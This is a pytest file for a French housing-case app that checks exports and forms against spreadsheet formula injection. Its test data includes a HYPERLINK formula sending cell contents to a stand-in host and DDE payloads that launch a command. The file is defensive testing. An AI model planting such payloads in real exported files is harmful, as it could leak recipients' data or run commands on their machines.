"""No text typed or imported into Prevex becomes a live formula in a file it exports (CSV / formula injection).

Each export is opened as the person receiving it would: openpyxl for the workbooks, `csv` for the CSV. A
value starting with =, +, -, @, a tab or a carriage return is written as text (a quote-prefixed text cell in a
workbook, behind a « ' » in a CSV); real numbers stay numbers. Forms and the tracking-sheet import refuse a
leading « = » in French, naming the field.
"""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from prevex.audit.models import AuditAction, AuditEntry
from prevex.core.spreadsheets import safe_cell
from prevex.imports.suivi.services import read_preview
from prevex.imports.tests.conftest import full_sheet
from prevex.organisations.tests.factories import SectorFactory
from prevex.situations.enums import EventKind, SocialServicesCheck
from prevex.situations.models import Event, Situation
from prevex.situations.tests.factories import SituationFactory
from prevex.territories.services import communes_load
from prevex.territories.tests.factories import CommuneFactory

HYPERLINK = '=HYPERLINK("https://exemple.invalid/?d="&A2,"Cliquez ici")'
HOSTILE = [HYPERLINK, "+33 6 12 34 56 78", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def frozen():
    with time_machine.travel(dt.datetime(2024, 5, 2, 10, tzinfo=dt.UTC), tick=False):
        yield


def workbook_cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_no_formula(cells, hostile_texts):
    """No formula cell; each hostile text is there as typed (no visible « ' »), a text cell with Excel's quote
    prefix, so that it stays text even when someone edits it."""
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    # XML reads a CR back as a LF, or as a CR when openpyxl parses with lxml: compare both as LF.
    by_text = {cell.value.replace("\r", "\n"): cell for cell in cells if isinstance(cell.value, str)}
    for text in (text.replace("\r", "\n") for text in hostile_texts):
        assert text in by_text and "'" + text not in by_text, text
        assert (by_text[text].data_type, by_text[text].quotePrefix) == ("s", True), text


@pytest.mark.parametrize("value", [-12, -3.5, Decimal("-2.50"), 0, dt.date(2024, 1, 1), None, "-12", "+3,5", "Dupont"])
def test_numbers_dates_and_ordinary_text_are_left_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_starts_like_a_formula_is_quoted(value):
    assert safe_cell(value) == "'" + value


def test_the_social_services_export_writes_hostile_names_as_text(client, coordinator, team, frozen):
    names = HOSTILE[:4]
    for index, name in enumerate(names):
        SituationFactory(
            team=team,
            tenant_last_name=name,
            tenant_first_name=HOSTILE[4],
            address=HOSTILE[5],
            reference=f"-{index}+1",
            social_services=SocialServicesCheck.TO_CHECK,
        )
    client.force_login(coordinator)
    response = client.get(reverse("intake:social_services_export"))
    cells = workbook_cells(response.content)
    assert_no_formula(cells, [*names, HOSTILE[4], HOSTILE[5], "-0+1"])
    starting_like_formulas = [cell for cell in cells if str(cell.value).startswith(("=", "+", "-", "@", "\t"))]
    assert len(starting_like_formulas) >= 4 and all(cell.quotePrefix for cell in starting_like_formulas)


def test_the_bilan_workbook_writes_a_hostile_sector_name_as_text_and_numbers_as_numbers(client, coordinator, team):
    sector = SectorFactory(team=team, name=HYPERLINK)
    SituationFactory(team=team, sector=sector, received_on=dt.date(2024, 3, 1))
    team.name = "@équipe"
    team.save()
    client.force_login(coordinator)
    query = {"start": "2024-01-01", "end": "2024-12-31", "as_of": "2024-12-31", "sector": sector.pk}
    response = client.get(reverse("reports:bilan_xlsx"), query)
    cells = workbook_cells(response.content)
    assert_no_formula(cells, [HYPERLINK, "@équipe"])
    situations = next(cell for cell in cells if cell.value == "Situations reçues")
    count = situations.offset(column=1)
    assert (count.value, count.data_type) == (1, "n")


def test_the_journal_csv_quotes_hostile_names(client, social_worker, team):
    social_worker.first_name, social_worker.last_name = '=HYPERLINK("https://exemple.invalid")', ""
    social_worker.save()
    organisation = social_worker.membership.organisation
    organisation.name = "-1+1"
    organisation.save()
    AuditEntry.log(actor=social_worker, action=AuditAction.VIEW, target=team, team=team)
    client.force_login(social_worker)
    content = client.get(reverse("journal:my_history")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("https://exemple.invalid")' in cells and "'-1+1" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


# --- What is typed or imported ----------------------------------------------------------------------------

SITUATION = {
    "reference": "",
    "received_on": "2024-04-29",
    "tenant_last_name": "Martin",
    "tenant_first_name": "Léa",
    "phone": "",
    "email": "",
    "address": "3 allée des Érables",
    "postal_code": "91300",
    "commune_name": "Massy",
    "landlord_name": "SCI Les Tilleuls",
    "landlord_kind": "sci",
    "assignation_date": "2024-04-10",
    "court": "",
    "hearing_date": "2024-06-20",
    "debt_amount": "2450.80",
}


@pytest.mark.parametrize(
    ("field", "label"),
    [
        ("tenant_last_name", "Nom"),
        ("tenant_first_name", "Prénom"),
        ("address", "Adresse"),
        ("landlord_name", "Bailleur"),
        ("other_tenants", "Autres locataires en titre"),
    ],
)
def test_the_situation_form_refuses_a_formula_naming_the_field(client, coordinator, team, frozen, field, label):
    CommuneFactory()
    client.force_login(coordinator)
    response = client.post("/situations/nouvelle/", {**SITUATION, field: HYPERLINK})
    page = response.content.decode()
    assert response.status_code == 200 and not Situation.objects.exists()
    assert "ne peut pas commencer par « = » (ce serait une formule de tableur)" in page
    form = response.context["form"]
    assert field in form.errors and str(form.fields[field].label) in form.errors[field][0]
    assert label.lower() in form.errors[field][0].lower()


def test_an_event_note_cannot_start_with_a_formula(client, coordinator, team, frozen):
    situation = SituationFactory(team=team)
    client.force_login(coordinator)
    url = reverse("situations:event_create", args=[situation.public_id, EventKind.NOTE])
    response = client.post(url, {"note-occurred_on": "2024-05-01", "note-note": "=1+1"})
    assert "« Commentaire » ne peut pas commencer par « = »" in response.content.decode()
    assert not Event.objects.filter(situation=situation).exists()


def test_a_sector_name_cannot_start_with_a_formula(client, coordinator, team):
    client.force_login(coordinator)
    response = client.post("/equipe/secteurs/nouveau/", {"name": HYPERLINK})
    assert "« Nom » ne peut pas commencer par « = »" in response.content.decode()
    assert not team.sectors.exists()


def test_a_social_landlord_name_cannot_start_with_a_formula(client, coordinator, team):
    client.force_login(coordinator)
    response = client.post(reverse("intake:eligibility"), {"social_landlords": 'Vilogia\n=HYPERLINK("x")'})
    assert "« Bailleurs sociaux » ne peut pas commencer par « = »" in response.content.decode()
    assert not team.social_landlords.filter(name__startswith="=").exists()


@pytest.mark.parametrize("column", ["nom", "prenom", "adresse", "bailleur", "reference", "email"])
def test_the_tracking_sheet_import_refuses_a_formula_naming_row_and_column(team, frozen, column):
    communes_load(departement="91")
    preview = read_preview(team=team, data=full_sheet({column: HYPERLINK}), filename="suivi.csv")
    messages = [str(error) for error in preview.errors]
    assert f"Ligne 2, colonne « {column} » : « {HYPERLINK[:40]} » est une formule, pas une valeur" in messages
    assert preview.counts["new"] == 0
